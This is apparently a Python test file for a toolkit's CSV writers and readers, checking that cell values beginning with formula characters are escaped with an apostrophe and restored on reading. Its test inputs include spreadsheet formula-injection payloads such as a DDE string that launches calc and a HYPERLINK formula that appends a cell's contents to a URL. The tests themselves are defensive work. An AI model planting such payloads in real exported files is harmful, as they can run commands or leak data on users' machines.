"""Tables that we write hold no formula that a spreadsheet would run, and our own readers return the original texts."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from erc_toolkit.extract.transcripts.tables import read_table_of_turns
from erc_toolkit.toolkit.base.csv_cells import csv_text, original_cell, safe_cell
from erc_toolkit.toolkit.predict.turns import Turn, table
from erc_toolkit.train.scores.predictions import Predictions, read_predictions
from erc_toolkit.train.scores.tables import ReportTable
from erc_toolkit.train.studies.record import results_csv

FORMULA = '=HYPERLINK("http://example.org/?"&A1, "open")'
STARTS = "=+-@\t\r\n＝＋－＠"
NASTY = st.text(st.sampled_from([*STARTS, "'", "1", "a", " ", ",", '"', "ü", ";"]), max_size=8) | st.text(max_size=8)


@given(NASTY)
def test_every_text_comes_back(text):
    assert original_cell(safe_cell(text)) == text


@given(NASTY)
def test_no_cell_is_a_formula(text):
    cell = safe_cell(text)
    if cell[:1] and cell[0] in STARTS:
        float(cell.rstrip("*").split("±")[0].replace("%", ""))  # a number, which runs nothing


@pytest.mark.parametrize("number", ["-5", "+1.25", "-1e-05", "-0.52 ± 0.11", "+2.1 %", "-3.0*", "5", ""])
def test_numbers_stay_numbers(number):
    assert safe_cell(number) == number == original_cell(number)
    assert csv_text([[-5, -0.5, None]]) == "-5,-0.5,\n"


@pytest.mark.parametrize(
    "text", ["-1+cmd|' /C calc'!A0", "+A1", "@SUM(1)", "\t=1", "=1", "-a", "--", "＝1+1", "1-", "'=1"]
)
def test_formulas_get_an_apostrophe(text):
    assert safe_cell(text) == (text if text == "1-" else f"'{text}")


def predictions(names: list[str]) -> Predictions:
    n = len(names)
    column = np.array(names, object)
    numbers = np.arange(n)
    return Predictions(
        ["=joy", "-anger"],
        ["text"],
        column,
        column,
        column,
        numbers,
        numbers % 3 - 1,
        numbers % 2,
        np.full((n, 2), 0.5),
        np.zeros((n, 1), np.int64),
    )


def test_predictions(tmp_path):
    names = [FORMULA, "+1+1", "-3", "@x", "'=x", "\t=x", "=a\nb", "plain", "'"]
    predictions(names).write(tmp_path)
    with open(tmp_path / "predictions.csv", encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[1][0] == f"'{FORMULA}" and rows[2][4] == "'=joy" and rows[1][5] == "'=joy"
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t") or cell[:2] == "-a"]
    back = read_predictions(tmp_path)
    assert back.id.tolist() == back.dialogue.tolist() == back.speaker.tolist() == names
    assert back.labels == ["=joy", "-anger"] and (back.true == np.arange(len(names)) % 3 - 1).all()


def test_turns_of_a_recording_read_again_as_a_transcript(tmp_path):
    texts = [FORMULA, "- and then?", "-5", "'- quoted", "plain"]
    turns = [
        Turn(f"={i}", "@Ann", text, -0.0 + i, i + 1.0, "=joy", 0.5, {"=joy": 0.5, "x": 0.5}, {"text": None}, {})
        for i, text in enumerate(texts)
    ]
    content = table(turns)
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert [row[4] for row in rows[1:]] == [f"'{FORMULA}", "'- and then?", "-5", "''- quoted", "plain"]
    assert {row[3] for row in rows[1:]} == {"'@Ann"} and rows[1][1] == "0.000"
    back = read_table_of_turns(content, tmp_path / "turns.csv")
    assert [turn["text"] for turn in back.turns] == texts and {turn["speaker"] for turn in back.turns} == {"@Ann"}
    # Another program's table means what it says.
    other = read_table_of_turns("start,end,speaker,text\n0,1,A,'- no\n", tmp_path / "other.csv")
    assert other.turns[0]["text"] == "'- no"


def test_tables_of_reports_and_studies(tmp_path):
    ReportTable("t", "", ["", "difference"], [["=cmd()", "-1.25"], ["joy", "+0.5*"]]).save(tmp_path)
    assert (tmp_path / "t.csv").read_text("utf-8") == ",difference\n'=cmd(),-1.25\njoy,+0.5*\n"
    runs = [{"seed": 1, "status": "done", "result": {"test": {"weighted_f1": -0.5}}}]
    assert results_csv([{"name": "-wide", "runs": runs}]).splitlines()[1].startswith("'-wide,1,done,")
